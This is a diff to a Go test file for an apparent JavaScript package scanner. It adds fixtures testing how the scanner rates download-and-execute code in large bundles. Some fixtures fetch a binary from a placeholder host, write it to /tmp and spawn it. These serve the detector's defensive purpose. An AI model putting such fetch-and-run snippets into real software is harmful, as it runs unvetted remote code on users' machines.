@@ -41,6 +41,15 @@ const f = require("os").tmpdir() + "/x"; http.get("http://localhost:8080/status"
 const f = require("os").tmpdir() + "/tool";
 https.get("https://github.com/o/r/releases/download/v1/tool-linux", r => r.pipe(fs.createWriteStream(f))); execFileSync(f, ["--version"])`}, finding.SeverityLow},
 		{"download_only", map[string]string{"index.js": `require("https").get("https://x.invalid/f", r => r.pipe(require("fs").createWriteStream("f")))`}, finding.SeverityNone},
+		// a bundle: its error messages' documentation links are not downloads
+		{"bundle_doc_links", map[string]string{"cli.js": bundlePad + `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
+function fail() { throw new Error("see https://docs.example.invalid/errors/config for help") }
+function get(u, f) { https.get(u, r => r.pipe(fs.createWriteStream(f))) }
+spawn("git", ["status"])`}, finding.SeverityLow},
+		// in the same bundle, the URL a request is given still counts
+		{"bundle_requested_url", map[string]string{"cli.js": bundlePad + `const https = require("https"), fs = require("fs"), { spawn } = require("child_process");
+https.get("https://dl.example.invalid/tool-linux", r => r.pipe(fs.createWriteStream("/tmp/t")));
+spawn("/tmp/t")`}, finding.SeverityMedium},
 	})
 }
 
@@ -51,3 +60,6 @@ func TestCryptominer(t *testing.T) {
 		{"mining_docs_word", map[string]string{"index.js": `const topic = "data mining and text mining"`}, finding.SeverityNone},
 	})
 }
+
+// bundlePad makes a file large enough to be taken for a bundle.
+var bundlePad = strings.Repeat("var a = b + c;\n", 40000)
